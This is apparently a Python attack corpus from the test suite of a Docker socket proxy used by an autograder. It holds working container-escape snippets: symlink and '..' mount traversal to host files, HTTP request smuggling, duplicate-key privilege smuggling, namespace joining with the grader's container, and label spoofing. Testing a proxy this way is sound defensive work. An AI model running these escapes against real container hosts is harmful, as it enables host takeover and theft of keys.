"""Escaping: requests that the proxy and the daemon could understand differently, for more than containers of one's own.

Each prints REACHED only when it has what it wants; the tests search for that word in the executed notebook.
"""

from __future__ import annotations

from tests.attack_corpus.attack import Attack

#: What each begins with: ``ask`` sends a request as it is, ``report`` prints the word that the tests search for.
COMMON = """import docker, http.client, json, os, socket
client, busybox, work = docker.from_env(), "drydock/busybox:1.37", os.getcwd()
def connect():
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(20)
    line.connect("/var/run/docker.sock")
    return line
def ask(method, path, body=None):
    http_line = http.client.HTTPConnection("docker")
    http_line.sock = connect()
    text = body if body is None or isinstance(body, str) else json.dumps(body)
    http_line.request(method, path, text, {"Content-Type": "application/json"})
    answer = http_line.getresponse()
    return answer.status, answer.read()
def report(reached):
    print("REA" + "CHED" if reached else "failed")
def grader():
    return next(one["Id"] for one in json.loads(ask("GET", "/containers/json")[1]) if "/kernel" in one["Names"][0])
def look_around(**options):
    try:
        seen = client.containers.run(busybox, "ls -a /h /h/run/seed", remove=True, **options).decode()
    except docker.errors.APIError as error:
        seen = str(error)
    print(seen)
    report("server-key.pem" in seen or "vmlinuz" in seen)
"""

_CODE = {
    "annotations": (
        "Has the container runtime write to a file of the machine, by annotations.",
        """hook = {"run.oci.hooks.stdout": work + "/made-by-the-runtime"}
status, answer = ask("POST", "/containers/create?name=hook",
    {"Image": busybox, "Cmd": ["true"], "HostConfig": {"Annotations": hook}})
report(status == 201)""",
    ),
    "dots-behind-a-link": (
        "Binds a path with `..` behind a link, which one program resolves on disk and another one as text.",
        """os.makedirs("a/b/c/d/e/f/g/h/i")
os.symlink(work + "/a/b/c/d/e/f/g/h/i", "deep")
look_around(volumes=[work + "/deep" + "/.." * (work.count("/") + 1) + ":/h"])""",
    ),
    "changed-after-creation": (
        "Binds a folder, and replaces it by a link to the root before the container starts.",
        """os.makedirs("folder")
made = client.containers.create(busybox, "ls -a /h /h/run/seed", volumes=[work + "/folder:/h"])
os.rmdir("folder")
os.symlink("/", "folder")
try:
    made.start()
    made.wait()
except docker.errors.APIError as error:
    print(error)
report(b"server-key.pem" in made.logs())""",
    ),
    "subpath": (
        "Mounts a volume's link to the root as the volume's subpath.",
        """client.volumes.create("links")
client.containers.run(busybox, "ln -s / /v/root", volumes=["links:/v"], remove=True)
for subpath in ("root", "../../../../../..", "/"):
    mount = {"Type": "volume", "Source": "links", "Target": "/h", "VolumeOptions": {"Subpath": subpath}}
    status, answer = ask("POST", "/containers/create",
        {"Image": busybox, "Cmd": ["ls", "-a", "/h/run/seed"], "HostConfig": {"Mounts": [mount]}})
    print(answer)
    if status == 201:
        made = client.containers.get(json.loads(answer)["Id"])
        try:
            made.start()
            made.wait()
        except docker.errors.APIError as error:
            print(error)
        report(b"server-key.pem" in made.logs())""",
    ),
    "two-of-a-name": (
        "Names a field twice, and writes it in letters that Go takes for the same.",
        """for field in ('"HostConfig": {"Privileged": true}, "HostConfig": {}', '"HostConfig": {"PRIVILEGED": true}',
              '"Ho\\u017ftConfig": {"Privileged": true}', '"HostConfig": {"Privileged": false, "privileged": true}'):
    status, answer = ask("POST", "/containers/create", '{"Image": "%s", %s}' % (busybox, field))
    facts = json.loads(ask("GET", "/containers/%s/json" % json.loads(answer).get("Id", "none"))[1])
    report(facts.get("HostConfig", {}).get("Privileged"))""",
    ),
    "request-in-a-request": (
        "Hides a second request behind a first one, in its body, its chunks, or a stream.",
        """body = b'{"Image": "drydock/busybox:1.37", "HostConfig": {"Privileged": true}}'
second = b"POST /containers/create?name=second HTTP/1.1\\r\\nHost: docker\\r\\nContent-Type: application/json\\r\\n"
second += b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body
for first in (b"GET /info HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
              b"GET /_ping HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: tcp\\r\\n\\r\\n",
              b"POST /build HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n"
              b"Content-Length: 5\\r\\n\\r\\n0\\r\\n\\r\\n",
              b"POST /auth HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 9\\r\\n\\r\\n"):
    with connect() as line:
        line.sendall(first + second)
        try:
            while line.recv(65536):
                pass
        except OSError:
            pass
report(ask("GET", "/containers/second/json")[0] == 200)""",
    ),
    "network-of-the-machine": (
        "Takes the machine's own network: for a container, a build, a network of its own.",
        """for path, body in {
    "/containers/create": {"Image": busybox, "HostConfig": {"NetworkMode": "host"}},
    "/networks/create": {"Name": "card", "Driver": "macvlan", "Options": {"parent": "vec0"}},
    "/networks/create?x=": {"Name": "uplink", "IPAM": {"Config": [{"Subnet": "10.0.2.0/24"}]}},
    "/build?networkmode=host": None,
}.items():
    report(ask("POST", path, body)[0] in (200, 201))""",
    ),
    "entitlements": (
        "Asks a build for the machine's network and for privileges.",
        """import subprocess
for option in ("network=host", "security=insecure"):
    open("Dockerfile", "w").write("FROM drydock/busybox:1.37\\nRUN --%s true\\n" % option)
    build = ["docker", "build", "--allow", "network.host", "--allow", "security.insecure", "."]
    report(subprocess.run(build, env={**os.environ, "DOCKER_BUILDKIT": "1"}).returncode == 0)""",
    ),
    "containers-of-the-grader": (
        "Enters, changes and shares with the container that the notebook runs in.",
        """kernel = grader()
shared = {name: "container:" + kernel for name in ("PidMode", "IpcMode", "NetworkMode")}
for host in [{name: mode} for name, mode in shared.items()] + [{"VolumesFrom": [kernel[:12]]}]:
    report(ask("POST", "/containers/create", {"Image": busybox, "HostConfig": host})[0] == 201)
for verb, body in ("exec", {"Cmd": ["true"]}), ("update", {"Memory": 1 << 30}), ("rename?name=x", None):
    report(ask("POST", "/containers/%s/%s" % (kernel, verb), body)[0] in (200, 201, 204))""",
    ),
    "label-of-the-grader": (
        "Makes an image with the grader's label, so that its containers look like the grader's.",
        """made = client.containers.create(busybox, labels={"io.drydock.owner": "autograder"})
image = made.commit("labelled", changes="LABEL io.drydock.owner=autograder")
again = client.containers.create(image.id)
report("autograder" in (made.labels.get("io.drydock.owner"), again.labels.get("io.drydock.owner")))""",
    ),
    "passed-connection": (
        "Passes an open connection to a container that stays, for use after the notebook has ended.",
        """os.makedirs("shared")
program = '''
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("/s/line")
listener.listen()
given, _ = listener.accept()
_, descriptors, _, _ = socket.recv_fds(given, 1, 1)
time.sleep(1)
line = socket.socket(fileno=descriptors[0])
for _ in range(60):
    time.sleep(1)
    try:
        line.sendall(b"GET /_ping HTTP/1.1\\\\r\\\\nHost: x\\\\r\\\\n\\\\r\\\\n")
        print(line.recv(100))
    except OSError:
        pass
'''
client.containers.run("drydock/python:3.13", ["python3", "-c", program], volumes=[work + "/shared:/s"], detach=True)
import time
for _ in range(100):
    if os.path.exists("shared/line"):
        break
    time.sleep(0.1)
with socket.socket(socket.AF_UNIX) as near:
    near.connect("shared/line")
    socket.send_fds(near, [b"x"], [connect().fileno()])""",
    ),
    "volume-and-link": (
        "Combines two: a container of its own makes links in the work folder, and another one binds through them.",
        """client.containers.run(busybox, "ln -s /run /w/inner", volumes=[work + ":/w"], remove=True)
look_around(volumes=[work + "/inner/seed:/h"])
look_around(mounts=[docker.types.Mount("/h", work + "/inner", type="bind")])""",
    ),
}

ATTACKS = {
    name: Attack(tries, COMMON + code, "proxy", states=("graded", "crashed")) for name, (tries, code) in _CODE.items()
}
